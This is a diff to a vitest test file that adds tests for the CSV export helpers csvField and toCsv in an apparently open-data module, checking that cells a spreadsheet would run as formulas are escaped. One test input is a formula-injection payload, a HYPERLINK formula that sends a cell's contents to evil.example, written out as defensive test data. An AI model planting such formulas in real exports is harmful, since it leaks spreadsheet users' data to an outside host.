@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { auditShort, auditText, ownershipText } from './open-data';
+import { auditShort, auditText, csvField, ownershipText, toCsv } from './open-data';
 
 const provenance = {
   sourceUrl: 'https://example.org/',
@@ -41,5 +41,24 @@ describe('audits and ownership in words', () => {
       ownershipText({ owner: 'Proton AG', parent: 'Proton Foundation', since: '2024', provenance }),
     ).toBe('Proton AG; parent: Proton Foundation; since 2024');
     expect(ownershipText({ owner: 'Pango', provenance })).toBe('Pango');
+  });
+});
+
+describe('CSV cells', () => {
+  it('neutralises a text that a spreadsheet would run as a formula', () => {
+    expect(csvField('=HYPERLINK("https://evil.example/?leak="&A1,"No logs")')).toBe(
+      `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""No logs"")"`,
+    );
+    expect(['+1', '-1+2', '@SUM(A1)', '\tx', '\rx'].map(csvField)).toEqual([
+      "'+1",
+      "'-1+2",
+      "'@SUM(A1)",
+      "'\tx",
+      `"'\rx"`,
+    ]);
+  });
+
+  it('leaves numbers, ordinary text and empty cells as they are', () => {
+    expect(toCsv([[-3, 'No logs', '9.99-12.99', null, true]])).toBe('-3,No logs,9.99-12.99,,true\r\n');
   });
 });
